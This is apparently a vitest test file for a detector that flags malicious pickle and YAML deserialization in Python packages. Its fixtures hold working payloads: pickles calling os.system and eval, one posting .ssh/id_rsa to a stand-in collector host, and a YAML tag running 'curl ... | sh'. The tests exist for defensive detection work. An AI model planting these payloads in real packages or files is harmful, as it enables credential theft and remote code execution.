import { expect, test } from 'vitest';
import { harmfulPickle } from '../../../src/analysis/detectors/harmful-pickle.ts';
import { inspect, python, wheel } from '../../support/inspect.ts';
import { makeZip } from '../../support/make-zip.ts';
import { findingsOf } from './carriers.ts';

/** protocol 0: `callee(text)` when loaded */
const calling = (module: string, name: string, text: string): Buffer =>
  Buffer.from(`c${module}\n${name}\n(S'${text}'\ntR.`, 'latin1');

const LOAD = `import os, pickle
with open(os.path.join(os.path.dirname(__file__), "model.pkl"), "rb") as stream:
    MODEL = pickle.load(stream)
`;

test('a pickle that calls a shell is malware when an import loads it', async () => {
  const files = { 'kit/__init__.py': LOAD, 'kit/model.pkl': calling('os', 'system', 'id') };
  expect(await findingsOf(harmfulPickle, files)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', path: 'kit/__init__.py', line: 3, decoded: 'id' },
  ]);
});

test('one that a function loads, and that runs text which sends a file of keys, is malware; harmless text is held', async () => {
  const load =
    'import os, pickle\ndef open_model():\n    return pickle.load(open(os.path.join(os.path.dirname(__file__), "model.pkl"), "rb"))\n';
  const text = '__import__("requests").post("https://c.collector.invalid/u", data=open(".ssh/id_rsa").read())';
  const files = (code: string): Record<string, string | Buffer> => ({
    'kit/__init__.py': load,
    'kit/model.pkl': calling('builtins', 'eval', code),
  });

  expect(await findingsOf(harmfulPickle, files(text))).toMatchObject([
    { class: 'malware', score: 10, context: 'call' },
  ]);
  expect(await findingsOf(harmfulPickle, files('1 + 1'))).toMatchObject([{ score: 8, context: 'call' }]);
});

test('one that nobody is seen to load is suspicious, in a zip of weights too', async () => {
  const pickle = calling('builtins', 'exec', 'print(1)');
  const files = { 'kit/__init__.py': '', 'kit/net.pt': makeZip([{ name: 'net/data.pkl', content: pickle }]) };
  expect(await findingsOf(harmfulPickle, files)).toMatchObject([
    { class: 'suspicious', score: 6, context: 'none', path: 'kit/net.pt!/net/data.pkl' },
  ]);
});

test('pickles of ordinary objects stay silent', async () => {
  const files = { 'kit/__init__.py': LOAD, 'kit/model.pkl': calling('collections', 'OrderedDict', 'x') };
  expect(await findingsOf(harmfulPickle, files)).toEqual([]);
});

test('a pickle in the source that runs text is malware where it is loaded', async () => {
  const text = 'cbuiltins\\nexec\\n(Vimport os\\ntR.';
  const file = wheel({ 'pkg/__init__.py': python('import pickle', `pickle.loads(b'${text}')`) });
  const plain = wheel({ 'pkg/__init__.py': python('import pickle', "TABLE = pickle.loads(b'(lp0\\nI1\\na.')") });

  expect(await inspect('harmful-pickle', file)).toMatchObject([{ class: 'malware', score: 10, line: 2 }]);
  expect(await inspect('harmful-pickle', plain)).toEqual([]);
});

test('YAML that is loaded without care, and calls a shell, is malware; values of honest types are not', async () => {
  const load = python(
    'import os, yaml',
    'CONF = yaml.load(open(os.path.join(os.path.dirname(__file__), "conf.yaml")), Loader=yaml.UnsafeLoader)',
  );
  const harmful = wheel({
    'pkg/__init__.py': load,
    'pkg/conf.yaml': 'a: !!python/object/apply:os.system ["curl -s http://203.0.113.3/a | sh"]\n',
  });
  const honest = wheel({
    'pkg/__init__.py': load,
    'pkg/conf.yaml': 'a: !!python/tuple [1, 2]\nb: !!python/object:pkg.Point {x: 1}\n',
  });

  expect(await inspect('harmful-pickle', harmful)).toMatchObject([{ class: 'malware', score: 10, line: 2 }]);
  expect(await inspect('harmful-pickle', honest)).toEqual([]);
});
